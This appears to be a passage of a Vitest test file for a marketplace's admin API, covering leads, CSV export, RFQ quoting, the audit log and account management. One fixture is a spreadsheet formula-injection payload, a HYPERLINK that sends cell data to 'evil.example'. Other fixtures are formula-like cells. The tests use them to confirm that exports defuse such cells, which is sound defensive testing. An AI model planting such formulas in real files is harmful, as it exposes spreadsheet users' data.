import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AdminAnalytics } from '~/domain/analytics';
import type { ContentReviewArticle } from '~/domain/articles';
import type { AuditEntry } from '~/domain/audit';
import type { Lead, LeadHistoryEntry } from '~/domain/leads';
import type { RfqDetail } from '~/domain/rfqs';
import type { AdminUser } from '~/domain/users';
import { BESS_DEFAULTS } from '~/domain/schemas/calculators/bess';
import { rfqs, users } from '~/server/db/schema';
import { eq } from 'drizzle-orm';
import { createTestLead, createTestProduct } from '../factories/records';
import { createTestUser } from '../factories/users';
import type { CookieJar } from '../setup/cookieJar';
import { apiContext, describeOnEveryDatabase, ownDatabase, twoAdminsAtOnce, type ApiContext } from '../setup/apiContext';
import { issues, json, jsonRequest, signIn, withCookies } from '../setup/testApp';

/** The staff's tools: leads at scale, the RFQ desk, the audit log and accounts. */

const api = apiContext({ admin: { firstName: 'Ada', lastName: 'Staff' } });

describe('leads: search, filters, sort and pages', () => {
  const tag = `q${Date.now()}`;
  let ids: number[] = [];

  beforeAll(async () => {
    const made = [
      await createTestLead(api.db, {
        firstName: 'Avery',
        lastName: `Zeller`,
        organizationName: `${tag} Solar Farms`,
        status: 'new',
        source: 'home',
        projectType: 'behind-the-meter-solar',
        createdAt: new Date('2026-03-02T10:00:00Z'),
      }),
      await createTestLead(api.db, {
        firstName: 'Blake',
        lastName: 'Young',
        organizationName: `${tag} Grid Partners`,
        status: 'contacted',
        source: 'contact',
        projectType: 'utility-scale-development',
        createdAt: new Date('2026-03-03T10:00:00Z'),
      }),
      await createTestLead(api.db, {
        firstName: 'Casey',
        lastName: 'Xu',
        organizationName: `${tag} Data Co`,
        status: 'qualified',
        source: 'contact',
        projectType: 'data-center-energy',
        createdAt: new Date('2026-03-04T23:59:00Z'),
      }),
    ];
    ids = made.map((lead) => lead.id);
  });

  it('without parameters answers every lead, unpaged, with the count', async () => {
    const response = await api.app.request('/api/leads', withCookies(api.admin));
    const all = await json<Lead[]>(response);
    expect(Number(response.headers.get('X-Total-Count'))).toBe(all.length);
    expect(all.map((lead) => lead.id)).toEqual(expect.arrayContaining(ids));
  });

  it('matches every word in the name, email or organization, in any case, and counts the matches', async () => {
    const response = await api.app.request(`/api/leads?q=${tag.toUpperCase()}%20grid&page=1`, withCookies(api.admin));
    expect(response.headers.get('X-Total-Count')).toBe('1');
    expect((await json<Lead[]>(response)).map((lead) => lead.firstName)).toEqual(['Blake']);
    expect(await json<Lead[]>(api.app.request(`/api/leads?q=${tag}%20nobody`, withCookies(api.admin)))).toEqual([]);
    // LIKE's wildcards are searched for literally.
    expect(await json<Lead[]>(api.app.request(`/api/leads?q=${tag}%20%25`, withCookies(api.admin)))).toEqual([]);
  });

  it('filters by statuses, sources, project types and the days they arrived, and sorts', async () => {
    const base = `/api/leads?q=${tag}`;
    const names = async (query: string) =>
      (await json<Lead[]>(api.app.request(`${base}&${query}`, withCookies(api.admin)))).map((lead) => lead.firstName);
    expect(await names('status=new,qualified')).toEqual(['Casey', 'Avery']);
    expect(await names('source=home')).toEqual(['Avery']);
    expect(await names('projectType=data-center-energy,utility-scale-development&sort=oldest')).toEqual(['Blake', 'Casey']);
    expect(await names('from=2026-03-03&to=2026-03-04')).toEqual(['Casey', 'Blake']);
    expect(await names('to=2026-03-02')).toEqual(['Avery']);
    expect(await names('sort=name')).toEqual(['Casey', 'Blake', 'Avery']);
    expect(await names('sort=organization')).toEqual(['Casey', 'Blake', 'Avery']);
  });

  it('answers a page at a time with the total', async () => {
    const first = await api.app.request(`/api/leads?q=${tag}&pageSize=2&page=1&sort=oldest`, withCookies(api.admin));
    expect(first.headers.get('X-Total-Count')).toBe('3');
    expect((await json<Lead[]>(first)).map((lead) => lead.firstName)).toEqual(['Avery', 'Blake']);
    expect(
      (await json<Lead[]>(api.app.request(`/api/leads?q=${tag}&pageSize=2&page=2&sort=oldest`, withCookies(api.admin)))).map(
        (lead) => lead.firstName,
      ),
    ).toEqual(['Casey']);
  });

  it('names each bad parameter', async () => {
    expect(
      await issues(
        api.app.request(
          '/api/leads?status=won&source=fax&sort=best&pageSize=101&page=0&from=2026-02-30&colour=red',
          withCookies(api.admin),
        ),
      ),
    ).toEqual(
      expect.arrayContaining([
        { path: 'status', message: 'Status must be one or more of: new, contacted, qualified, closed' },
        { path: 'source', message: 'Source must be one or more of: home, contact' },
        { path: 'sort', message: 'Sort must be one of: newest, oldest, name, organization' },
        { path: 'pageSize', message: 'Page size must be a whole number from 1 to 100' },
        { path: 'page', message: 'Page must be a whole number from 1 to 10,000' },
        { path: 'from', message: 'From must be a date like 2026-01-31' },
        { path: 'colour', message: 'Unknown parameter' },
      ]),
    );
    expect(await issues(api.app.request('/api/leads?from=2026-03-05&to=2026-03-01', withCookies(api.admin)))).toEqual([
      { path: 'to', message: 'From must be on or before To' },
    ]);
    // Days PostgreSQL cannot reach (the day after 9999-12-31 is year 10000), in the list and the export alike.
    for (const path of ['/api/leads', '/api/leads/export.csv']) {
      expect(await issues(api.app.request(`${path}?to=9999-12-31`, withCookies(api.admin)))).toEqual([
        { path: 'to', message: 'To must be a date from 2000-01-01 to 2099-12-31' },
      ]);
      expect(await issues(api.app.request(`${path}?from=0001-01-01`, withCookies(api.admin)))).toEqual([
        { path: 'from', message: 'From must be a date from 2000-01-01 to 2099-12-31' },
      ]);
    }
    expect((await api.app.request('/api/leads?from=2000-01-01&to=2099-12-31', withCookies(api.admin))).status).toBe(200);
    expect(await issues(api.app.request('/api/leads?projectType=wind', withCookies(api.admin)))).toEqual([
      {
        path: 'projectType',
        message:
          'Project type must be one or more of: behind-the-meter-solar, utility-scale-development, data-center-energy, land-lease-opportunity, epc-partnership, other',
      },
    ]);
  });

  it('exports the filtered leads as CSV, every match in the chosen order, formulas defused', async () => {
    const formula = await createTestLead(api.db, {
      firstName: '=HYPERLINK("x")',
      organizationName: `${tag} Formula`,
      createdAt: new Date('2026-03-05T10:00:00Z'),
    });
    const response = await api.app.request(`/api/leads/export.csv?q=${tag}&sort=oldest&page=2&pageSize=1`, withCookies(api.admin));
    expect(response.status).toBe(200);
    expect(response.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('Content-Disposition')).toMatch(/^attachment; filename="voltfield-leads-\d{4}-\d{2}-\d{2}\.csv"$/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)], 'a UTF-8 byte-order mark').toEqual([0xef, 0xbb, 0xbf]);
    const { data, meta } = Papa.parse<Record<string, string>>(new TextDecoder().decode(bytes), { header: true, skipEmptyLines: true });
    expect(meta.fields).toEqual([
      'ID',
      'Received',
      'First name',
      'Last name',
      'Email',
      'Organization',
      'Project type',
      'Status',
      'Source',
      'Details',
    ]);
    expect(data.map((row) => row['First name'])).toEqual(['Avery', 'Blake', 'Casey', `'=HYPERLINK("x")`]);
    expect(data[0]).toMatchObject({
      ID: String(ids[0]),
      Status: 'New',
      Source: 'Home page',
      'Project type': 'Behind-the-meter solar',
      Received: '2026-03-02T10:00:00.000Z',
    });
    expect(data[3]!.ID).toBe(String(formula.id));
  });
});

describe('CSV exports a spreadsheet cannot run, multi-line cells included', () => {
  const cells = {
    organizationName: '=1+1\nAcme',
    details: '=HYPERLINK("http://evil.example/?x="&B2,"Click")\nthanks',
    firstName: '=3+3\u2028x',
    lastName: '+1\r2',
  };

  it('neutralises every such cell of an anonymous lead in the leads CSV', async () => {
    const sent = await api.app.request(
      '/api/leads',
      jsonRequest('POST', { ...cells, email: 'formula@example.com', projectType: 'other' }),
      {
        clientAddress: '198.51.100.77',
      },
    );
    expect(sent.status).toBe(201);
    const response = await api.app.request('/api/leads/export.csv?q=formula%40example.com', withCookies(api.admin));
    const { data } = Papa.parse<Record<string, string>>((await response.text()).replace(/^\uFEFF/, ''), {
      header: true,
      skipEmptyLines: true,
    });
    expect(data).toHaveLength(1);
    expect(data[0]).toMatchObject({
      Organization: `'${cells.organizationName}`,
      Details: `'${cells.details}`,
      'First name': `'${cells.firstName}`,
      'Last name': `'${cells.lastName}`,
    });
  });

  it("neutralises them in an RFQ's CSV", async () => {
    const product = await createTestProduct(api.db);
    const draft = (await (
      await api.app.request('/api/rfqs', jsonRequest('POST', { projectName: 'x', status: 'draft' }, api.buyer))
    ).json()) as {
      id: number;
    };
    await api.app.request(
      `/api/rfqs/${draft.id}/items`,
      jsonRequest('POST', { productId: product.id, quantity: 1, specifications: cells.details }, api.buyer),
    );
    const submitted = await api.app.request(
      `/api/rfqs/${draft.id}`,
      jsonRequest(
        'PATCH',
        {
          projectName: cells.organizationName,
          shipToAddress: `${cells.lastName} Main Street, Austin`,
          neededBy: '2099-01-01',
          status: 'submitted',
        },
        api.buyer,
      ),
    );
    expect(submitted.status).toBe(200);
    const csv = await (await api.app.request(`/api/rfqs/${draft.id}/export.csv`, withCookies(api.buyer))).text();
    const { data } = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
    expect(data[0]).toMatchObject({
      Project: `'${cells.organizationName}`,
      'Ship to': `'${cells.lastName} Main Street, Austin`,
      'Line note': `'${cells.details}`,
    });
  });
});

describe('lead status: one, many, and its history', () => {
  it('changes one lead, records who did it, and does not record a change to the same status', async () => {
    const lead = await createTestLead(api.db);
    const changed = await api.app.request(`/api/leads/${lead.id}/status`, jsonRequest('PATCH', { status: 'contacted' }, api.admin));
    expect(changed.status).toBe(200);
    expect(await changed.json()).toMatchObject({ id: lead.id, status: 'contacted' });
    await api.app.request(`/api/leads/${lead.id}/status`, jsonRequest('PATCH', { status: 'contacted' }, api.admin));
    const history = await json<LeadHistoryEntry[]>(api.app.request(`/api/leads/${lead.id}/history`, withCookies(api.admin)));
    expect(history).toEqual([
      { at: lead.createdAt.toISOString(), action: 'created', from: null, to: 'new', actor: null },
      {
        at: expect.any(String),
        action: 'lead.status',
        from: 'new',
        to: 'contacted',
        actor: { id: api.adminUser.id, email: api.adminUser.email, name: 'Ada Staff' },
      },
    ]);
  });

  it('changes several at once and records one audit entry per lead that changed', async () => {
    const leads = [await createTestLead(api.db), await createTestLead(api.db), await createTestLead(api.db, { status: 'qualified' })];
    const ids = leads.map((lead) => lead.id);
    const response = await api.app.request(
      '/api/leads/status',
      jsonRequest('PATCH', { ids: [...ids, ids[0]], status: 'qualified' }, api.admin),
    );
    expect(response.status).toBe(200);
    const body = await json<{ updated: number; leads: Lead[] }>(response);
    expect(body.updated).toBe(2);
    expect(body.leads.map((lead) => [lead.id, lead.status])).toEqual(ids.map((id) => [id, 'qualified']));
    for (const id of ids.slice(0, 2)) {
      const entries = await json<AuditEntry[]>(api.app.request(`/api/admin/audit?entityType=lead&entityId=${id}`, withCookies(api.admin)));
      expect(entries).toEqual([
        expect.objectContaining({ action: 'lead.bulk_status', before: { status: 'new' }, after: { status: 'qualified' } }),
      ]);
    }
    expect(
      await json<AuditEntry[]>(api.app.request(`/api/admin/audit?entityType=lead&entityId=${ids[2]}`, withCookies(api.admin))),
    ).toEqual([]);
  });

  it('changes nothing when one of the leads does not exist', async () => {
    const lead = await createTestLead(api.db);
    const response = await api.app.request(
      '/api/leads/status',
      jsonRequest('PATCH', { ids: [lead.id, 2_000_000_000], status: 'closed' }, api.admin),
    );
    expect(response.status).toBe(404);
    expect(await response.json()).toEqual({ error: 'Lead not found: 2000000000' });
    const [unchanged] = await json<Lead[]>(api.app.request(`/api/leads?q=${encodeURIComponent(lead.email)}`, withCookies(api.admin)));
    expect(unchanged!.status).toBe('new');
  });

  it('validates the bulk change', async () => {
    expect(await issues(api.app.request('/api/leads/status', jsonRequest('PATCH', { ids: [], status: 'won' }, api.admin)))).toEqual([
      { path: 'ids', message: 'Choose at least one lead' },
      { path: 'status', message: 'Status must be one of: new, contacted, qualified, closed' },
    ]);
    expect(
      await issues(
        api.app.request(
          '/api/leads/status',
          jsonRequest('PATCH', { ids: Array.from({ length: 501 }, (_, i) => i + 1), status: 'new' }, api.admin),
        ),
      ),
    ).toEqual([{ path: 'ids', message: 'At most 500 leads at once' }]);
    expect(await issues(api.app.request('/api/leads/status', jsonRequest('PATCH', { ids: [0, 'x'], status: 'new' }, api.admin)))).toEqual([
      { path: 'ids.0', message: 'Not a valid lead id' },
      { path: 'ids.1', message: 'Not a valid lead id' },
    ]);
    expect((await api.app.request('/api/leads/2000000000/history', withCookies(api.admin))).status).toBe(404);
  });
});

/** Submitting an RFQ as the buyer and moving it as staff, on one context. */
function deskRequests(api: ApiContext) {
  async function submittedRfq(projectName = 'Desk test'): Promise<number> {
    const product = await createTestProduct(api.db, { price: '100.00' });
    const rfq = await json<{ id: number }>(
      api.app.request('/api/rfqs', jsonRequest('POST', { projectName: 'New RFQ', status: 'draft' }, api.buyer)),
    );
    await api.app.request(`/api/rfqs/${rfq.id}/items`, jsonRequest('POST', { productId: product.id, quantity: 3 }, api.buyer));
    const submitted = await api.app.request(
      `/api/rfqs/${rfq.id}`,
      jsonRequest(
        'PATCH',
        { projectName, shipToAddress: '100 Solar Way, Austin, TX 78701', neededBy: '2099-06-30', status: 'submitted' },
        api.buyer,
      ),
    );
    expect(submitted.status).toBe(200);
    return rfq.id;
  }

  const move = (id: number, body: unknown, jar = api.admin) =>
    api.app.request(`/api/admin/rfqs/${id}/status`, jsonRequest('PATCH', body, jar));

  return { submittedRfq, move };
}

const { submittedRfq, move } = deskRequests(api);

describe('the RFQ desk', () => {
  it('moves an RFQ through review, quote and close; the buyer reads the quote, the dates and the reason', async () => {
    const id = await submittedRfq();
    expect((await move(id, { status: 'under_review' })).status).toBe(200);
    const quoted = await move(id, { status: 'quoted', amount: 285.5, validUntil: '2099-01-31', note: 'Freight to site included.' });
    expect(quoted.status).toBe(200);
    expect(await quoted.json()).toMatchObject({
      id,
      status: 'quoted',
      quote: { amount: '285.50', validUntil: '2099-01-31', note: 'Freight to site included.', quotedAt: expect.any(String) },
      closedReason: null,
    });
    const seen = await json<RfqDetail>(api.app.request(`/api/rfqs/${id}`, withCookies(api.buyer)));
    expect(seen.quote).toMatchObject({ amount: '285.50', validUntil: '2099-01-31' });
    expect(seen.events.map((event) => [event.status, event.note])).toEqual([
      ['draft', null],
      ['submitted', null],
      ['under_review', null],
      ['quoted', 'Freight to site included.'],
    ]);
    const [listed] = (await json<RfqDetail[]>(api.app.request('/api/rfqs', withCookies(api.buyer)))).filter((rfq) => rfq.id === id);
    expect(listed!.quote?.amount).toBe('285.50');

    const closed = await json<RfqDetail>(move(id, { status: 'closed', reason: 'Buyer chose another supplier.' }));
    expect(closed).toMatchObject({ status: 'closed', closedReason: 'Buyer chose another supplier.', quote: { amount: '285.50' } });
    const audit = await json<AuditEntry[]>(api.app.request(`/api/admin/audit?entityType=rfq&entityId=${id}`, withCookies(api.admin)));
    expect(audit.map((entry) => [entry.before, entry.after])).toEqual([
      [{ status: 'quoted' }, { status: 'closed', note: 'Buyer chose another supplier.' }],
      [{ status: 'under_review' }, { status: 'quoted', amount: '285.50', validUntil: '2099-01-31', note: 'Freight to site included.' }],
      [{ status: 'submitted' }, { status: 'under_review' }],
    ]);
  });

  it('answers 409 to a move the workflow does not allow, and 404 to a missing RFQ', async () => {
    const draft = await json<{ id: number }>(
      api.app.request('/api/rfqs', jsonRequest('POST', { projectName: 'New RFQ', status: 'draft' }, api.buyer)),
    );
    const refused = await move(draft.id, { status: 'under_review' });
    expect(refused.status).toBe(409);
    expect(await refused.json()).toEqual({ error: `RFQ #${draft.id} is draft; it cannot be moved to under review` });
    const id = await submittedRfq();
    expect((await move(id, { status: 'quoted', amount: 1, validUntil: '2099-01-01' })).status).toBe(409);
    expect((await move(id, { status: 'closed', reason: 'Duplicate request' })).status).toBe(200);
    expect((await move(id, { status: 'under_review' })).status).toBe(409);
    expect((await move(2_000_000_000, { status: 'under_review' })).status).toBe(404);
  });

  it('validates a quote and a closing', async () => {
    const id = await submittedRfq();
    await move(id, { status: 'under_review' });
    expect(await issues(move(id, { status: 'quoted' }))).toEqual([
      { path: 'amount', message: 'Quoted amount is required' },
      { path: 'validUntil', message: 'Valid-until date is required' },
    ]);
    expect(await issues(move(id, { status: 'quoted', amount: -5, validUntil: '2099-02-30' }))).toEqual([
      { path: 'amount', message: 'Quoted amount must be more than 0' },
      { path: 'validUntil', message: 'Use a date like 2027-03-31' },
    ]);
    expect(await issues(move(id, { status: 'quoted', amount: 10.005, validUntil: '2099-01-01' }))).toEqual([
      { path: 'amount', message: 'Use at most 2 decimals' },
    ]);
    expect(await issues(move(id, { status: 'quoted', amount: 10, validUntil: '2001-01-01' }))).toEqual([
      { path: 'validUntil', message: 'Valid-until date cannot be in the past' },
    ]);
    expect(await issues(move(id, { status: 'closed', reason: ' ' }))).toEqual([
      { path: 'reason', message: 'A reason for closing is required' },
    ]);
    expect(await issues(move(id, { status: 'submitted' }))).toEqual([
      { path: 'status', message: 'Status must be one of: under_review, quoted, closed' },
    ]);
    const [rfq] = (await json<RfqDetail[]>(api.app.request('/api/rfqs', withCookies(api.admin)))).filter((item) => item.id === id);
    expect(rfq).toMatchObject({ status: 'under_review', quote: null });
  });
});

describe('the audit log', () => {
  it('lists entries newest first, filtered by action and actor, with the count', async () => {
    const response = await api.app.request(
      `/api/admin/audit?action=rfq.status&actor=${encodeURIComponent(api.adminUser.email.toUpperCase())}`,
      withCookies(api.admin),
    );
    const entries = await json<AuditEntry[]>(response);
    expect(entries.length).toBeGreaterThan(0);
    expect(Number(response.headers.get('X-Total-Count'))).toBe(entries.length);
    expect(
      entries.every(
        (entry) => entry.action === 'rfq.status' && entry.actor.email === api.adminUser.email && entry.actor.name === 'Ada Staff',
      ),
    ).toBe(true);
    expect(entries.map((entry) => entry.at)).toEqual([...entries.map((entry) => entry.at)].sort().reverse());
    expect(await json<AuditEntry[]>(api.app.request('/api/admin/audit?actor=nobody-here', withCookies(api.admin)))).toEqual([]);
  });

  it('names who or what each entry is about: an account by its name and email, a lead by its name, an RFQ by its project', async () => {
    const person = await createTestUser(api.db, { firstName: 'Rae', lastName: 'Subject' });
    await api.app.request(`/api/admin/users/${person.id}/role`, jsonRequest('PATCH', { role: 'developer' }, api.admin));
    const [changed] = await json<AuditEntry[]>(
      api.app.request(`/api/admin/audit?entityType=user&entityId=${person.id}`, withCookies(api.admin)),
    );
    expect(changed!.subject).toEqual({ name: 'Rae Subject', email: person.email });

    const first = async (type: string) =>
      (await json<AuditEntry[]>(api.app.request(`/api/admin/audit?entityType=${type}`, withCookies(api.admin))))[0];
    const [lead, rfq] = [await first('lead'), await first('rfq')];
    expect(lead?.subject).toEqual({ name: expect.stringMatching(/\S \S/), email: expect.stringContaining('@') });
    expect(rfq?.subject).toEqual({ name: expect.any(String), email: null });
  });

  it('names each bad parameter', async () => {
    expect(
      await issues(api.app.request('/api/admin/audit?action=lead.deleted&entityType=order&page=x&sort=asc', withCookies(api.admin))),
    ).toEqual(
      expect.arrayContaining([
        {
          path: 'action',
          message:
            'Action must be one of: lead.status, lead.bulk_status, rfq.status, user.role, user.sessions_revoked, user.invited, user.invitation_revoked, user.reset_sent, user.deactivated, user.reactivated, settings.quote, site.created, site.updated, site.deleted, site.shared, site.share_revoked, site.load_stored',
        },
        { path: 'entityType', message: 'Entity type must be one of: lead, rfq, user, settings, site' },
        { path: 'page', message: 'Page must be a whole number from 1 to 10,000' },
        { path: 'sort', message: 'Unknown parameter' },
      ]),
    );
  });
});

describe('accounts', () => {
  it('lists accounts by name or email and role, with their live sessions', async () => {
    const person = await createTestUser(api.db, { firstName: 'Quinn', lastName: 'Listed', role: 'developer' });
    await signIn(api.app, person.email);
    await signIn(api.app, person.email);
    const response = await api.app.request('/api/admin/users?q=quinn%20listed&role=developer', withCookies(api.admin));
    const users = await json<AdminUser[]>(response);
    expect(response.headers.get('X-Total-Count')).toBe('1');
    expect(users).toEqual([
      {
        id: person.id,
        firstName: 'Quinn',
        lastName: 'Listed',
        email: person.email,
        profileImageUrl: null,
        organizationName: person.organizationName,
        role: 'developer',
        createdAt: person.createdAt.toISOString(),
        activeSessions: 2,
        lastSeenAt: expect.any(String),
        deactivatedAt: null,
      },
    ]);
    expect(await issues(api.app.request('/api/admin/users?role=owner', withCookies(api.admin)))).toEqual([
      { path: 'role', message: 'Role must be one of: buyer, developer, landowner, epc_contractor, manufacturer, admin' },
    ]);
  });

  it("changes someone's role (audited), never one's own", async () => {
    const person = await createTestUser(api.db);
    const changed = await api.app.request(
      `/api/admin/users/${person.id}/role`,
      jsonRequest('PATCH', { role: 'epc_contractor' }, api.admin),
    );
    expect(changed.status).toBe(200);
    expect(await changed.json()).toMatchObject({ id: person.id, role: 'epc_contractor' });
    const [entry] = await json<AuditEntry[]>(
      api.app.request(`/api/admin/audit?entityType=user&entityId=${person.id}`, withCookies(api.admin)),
    );
    expect(entry).toMatchObject({
      action: 'user.role',
      before: { role: 'buyer', email: person.email },
      after: { role: 'epc_contractor', email: person.email },
    });
    const own = await api.app.request(`/api/admin/users/${api.adminUser.id}/role`, jsonRequest('PATCH', { role: 'buyer' }, api.admin));
    expect(own.status).toBe(409);
    expect(await own.json()).toEqual({ error: 'You cannot change your own role' });
    expect(await issues(api.app.request(`/api/admin/users/${person.id}/role`, jsonRequest('PATCH', { role: 'root' }, api.admin)))).toEqual([
      { path: 'role', message: 'Role must be one of: buyer, developer, landowner, epc_contractor, manufacturer, admin' },
    ]);
    expect(await issues(api.app.request('/api/admin/users/42/role', jsonRequest('PATCH', { role: 'buyer' }, api.admin)))).toEqual([
      { path: 'id', message: 'Not a valid user id' },
    ]);
    expect(
      (
        await api.app.request(
          '/api/admin/users/00000000-0000-4000-8000-000000000000/role',
          jsonRequest('PATCH', { role: 'buyer' }, api.admin),
        )
      ).status,
    ).toBe(404);
  });

  it('revokes every session of an account: its cookies stop working at once', async () => {
    const person = await createTestUser(api.db);
    const jar = await signIn(api.app, person.email);
    expect((await api.app.request('/api/rfqs', withCookies(jar))).status).toBe(200);
    const response = await api.app.request(`/api/admin/users/${person.id}/revoke-sessions`, jsonRequest('POST', {}, api.admin));
    expect(await response.json()).toEqual({ revoked: 1 });
    expect((await api.app.request('/api/rfqs', withCookies(jar))).status).toBe(401);
    const own = await api.app.request(`/api/admin/users/${api.adminUser.id}/revoke-sessions`, jsonRequest('POST', {}, api.admin));
    expect(own.status).toBe(409);
    expect(await own.json()).toEqual({ error: 'Sign out to end your own sessions' });
  });
});

describe('accounts: ids in any case, and never without an admin', () => {
  it("reads an id in upper case as the same account: one's own role and sessions stay out of reach", async () => {
    const ownUpper = api.adminUser.id.toUpperCase();
    const role = await api.app.request(`/api/admin/users/${ownUpper}/role`, jsonRequest('PATCH', { role: 'buyer' }, api.admin));
    expect(role.status).toBe(409);
    expect(await role.json()).toEqual({ error: 'You cannot change your own role' });
    const revoke = await api.app.request(`/api/admin/users/${ownUpper}/revoke-sessions`, jsonRequest('POST', {}, api.admin));
    expect(revoke.status).toBe(409);
    expect((await api.app.request('/api/admin/stats', withCookies(api.admin))).status).toBe(200);
  });

  it("audits a change made through an upper-case id under the account's real id", async () => {
    const person = await createTestUser(api.db);
    const changed = await api.app.request(
      `/api/admin/users/${person.id.toUpperCase()}/role`,
      jsonRequest('PATCH', { role: 'developer' }, api.admin),
    );
    expect(await changed.json()).toMatchObject({ id: person.id, role: 'developer' });
    const entries = await json<AuditEntry[]>(
      api.app.request(`/api/admin/audit?entityType=user&entityId=${person.id}`, withCookies(api.admin)),
    );
    expect(entries.map((entry) => [entry.entityId, entry.action])).toEqual([[person.id, 'user.role']]);
    // A filter typed in upper case finds it too.
    expect(
      await json<AuditEntry[]>(
        api.app.request(`/api/admin/audit?entityType=user&entityId=${person.id.toUpperCase()}`, withCookies(api.admin)),
      ),
    ).toHaveLength(1);
  });

  it('reads the user id of the saved-runs list in any case', async () => {
    const response = await api.app.request(`/api/calculators/runs?userId=${api.adminUser.id.toUpperCase()}`, withCookies(api.admin));
    expect(response.status).toBe(200);
  });
});

describe('GET /api/admin/stats', () => {
  it('counts leads from the database and projects and articles from the content', async () => {
    const response = await api.app.request('/api/admin/stats', withCookies(api.admin));
    expect(response.status).toBe(200);
    const stats = await response.json();
    const leads = await (await api.app.request('/api/leads', withCookies(api.admin))).json();
    expect(stats).toEqual({
      totalLeads: leads.length,
      newLeads: leads.filter((lead: { status: string }) => lead.status === 'new').length,
      totalProjects: expect.any(Number),
      activeProjects: expect.any(Number),
      totalArticles: expect.any(Number),
      publishedArticles: expect.any(Number),
    });
    expect(stats.activeProjects).toBeLessThanOrEqual(stats.totalProjects);
    expect(stats.publishedArticles).toBeLessThanOrEqual(stats.totalArticles);
  });
});

describe('analytics and content', () => {
  const fresh = ownDatabase();
  let staff: CookieJar;

  beforeAll(async () => {
    staff = await signIn(fresh.app, (await createTestUser(fresh.db, { role: 'admin' })).email);
  });

  it('counts leads and runs per week and type, the funnel and RFQ value per status, in SQL, zeros included', async () => {
    const now = new Date();
    const weekAgo = new Date(now.getTime() - 7 * 86_400_000);
    await createTestLead(fresh.db, { projectType: 'data-center-energy', createdAt: now });
    await createTestLead(fresh.db, { projectType: 'data-center-energy', createdAt: now, status: 'qualified' });
    await createTestLead(fresh.db, { projectType: 'other', createdAt: weekAgo, status: 'closed' });
    await createTestLead(fresh.db, { projectType: 'other', createdAt: new Date('2020-01-01T00:00:00Z') });
    const person = await signIn(fresh.app, (await createTestUser(fresh.db)).email);
    const saved = await fresh.app.request(
      '/api/calculators/run',
      jsonRequest(
        'POST',
        {
          type: 'bess_value',
          inputs: BESS_DEFAULTS,
        },
        person,
      ),
    );
    expect(saved.status).toBe(201);
    const analytics = await json<AdminAnalytics>(fresh.app.request('/api/admin/analytics', withCookies(staff)));
    expect(analytics.weeks).toHaveLength(12);
    const thisWeek = analytics.weeks.at(-1)!;
    const lastWeek = analytics.weeks.at(-2)!;
    expect(new Date(`${thisWeek}T00:00:00Z`).getUTCDay()).toBe(1);
    expect(Date.parse(`${thisWeek}T00:00:00Z`)).toBeLessThanOrEqual(now.getTime());
    expect(analytics.leadsPerWeek).toHaveLength(12 * 6);
    const leadCount = (week: string, projectType: string) =>
      analytics.leadsPerWeek.find((row) => row.week === week && row.projectType === projectType)!.count;
    expect(leadCount(thisWeek, 'data-center-energy')).toBe(2);
    expect(leadCount(lastWeek, 'other')).toBe(1);
    expect(analytics.leadsPerWeek.reduce((sum, row) => sum + row.count, 0)).toBe(3);
    expect(analytics.leadFunnel).toEqual([
      { status: 'new', count: 2 },
      { status: 'contacted', count: 0 },
      { status: 'qualified', count: 1 },
      { status: 'closed', count: 1 },
    ]);
    expect(analytics.runsPerWeek.find((row) => row.week === thisWeek && row.type === 'bess_value')!.count).toBe(1);
    expect(analytics.rfqValueByStatus.map((row) => row.status)).toEqual([
      'draft',
      'submitted',
      'under_review',
      'quoted',
      'closed',
      'accepted',
      'declined',
      'withdrawn',
    ]);
    expect(analytics.rfqValueByStatus.every((row) => row.count === 0 && row.value === '0.00')).toBe(true);
  });

  it('sums RFQ values beyond what one RFQ may hold without overflowing', async () => {
    const owner = await createTestUser(fresh.db);
    // The column's largest values, as RFQs submitted before the value limit could have them.
    const largest = '99200000000000.00';
    await fresh.db
      .insert(rfqs)
      .values(
        [1, 2, 3].map(() => ({ userId: owner.id, status: 'submitted' as const, submittedAt: new Date(), totalEstimatedValue: largest })),
      );
    const response = await fresh.app.request('/api/admin/analytics', withCookies(staff));
    expect(response.status).toBe(200);
    const analytics = (await response.json()) as AdminAnalytics;
    expect(analytics.rfqValueByStatus.find((row) => row.status === 'submitted')).toEqual({
      status: 'submitted',
      count: 3,
      value: '297600000000000.00',
    });
  });

  it('lists every article of the collection, drafts too, with its problems', async () => {
    const [articles, stats] = await Promise.all([
      json<ContentReviewArticle[]>(fresh.app.request('/api/admin/content', withCookies(staff))),
      json<{ totalArticles: number; publishedArticles: number }>(fresh.app.request('/api/admin/stats', withCookies(staff))),
    ]);
    expect(articles).toHaveLength(stats.totalArticles);
    expect(articles.filter((article) => article.status === 'published')).toHaveLength(stats.publishedArticles);
    for (const article of articles) {
      expect(article.url).toBe(article.status === 'published' ? `/blog/${article.slug}` : null);
      expect(article.readingMinutes).toBeGreaterThanOrEqual(1);
    }
    expect(articles.find((article) => article.slug === 'what-is-a-ppa')).toMatchObject({
      status: 'published',
      category: expect.any(String),
    });
  });
});

// Staff acting at once: who wins is decided by the database's locks, on every database.
describeOnEveryDatabase('staff changes at once', api, (api) => {
  const { submittedRfq, move } = deskRequests(api);

  it('lets bulk changes over the same leads run at once without losing an entry or deadlocking', async () => {
    const leads = await Promise.all(Array.from({ length: 6 }, () => createTestLead(api.db)));
    const ids = leads.map((lead) => lead.id);
    const statuses = ['contacted', 'qualified', 'closed', 'contacted', 'qualified', 'closed'] as const;
    const responses = await Promise.all(
      statuses.map((status, index) =>
        api.app.request('/api/leads/status', jsonRequest('PATCH', { ids: index % 2 ? [...ids].reverse() : ids, status }, api.admin)),
      ),
    );
    expect(responses.map((response) => response.status)).toEqual(statuses.map(() => 200));
    const updated = (await Promise.all(responses.map((response) => json<{ updated: number }>(response)))).reduce(
      (sum, body) => sum + body.updated,
      0,
    );
    // Each lead's entries chain: every change starts from the status the previous one left.
    for (const id of ids) {
      const history = await json<LeadHistoryEntry[]>(api.app.request(`/api/leads/${id}/history`, withCookies(api.admin)));
      for (let index = 1; index < history.length; index += 1) expect(history[index]!.from).toBe(history[index - 1]!.to);
    }
    const entries = await Promise.all(
      ids.map((id) => json<AuditEntry[]>(api.app.request(`/api/admin/audit?entityType=lead&entityId=${id}`, withCookies(api.admin)))),
    );
    expect(entries.flat().length).toBe(updated);
  });

  it('lets only one of two staff quoting the same RFQ at once win', async () => {
    const id = await submittedRfq();
    await move(id, { status: 'under_review' });
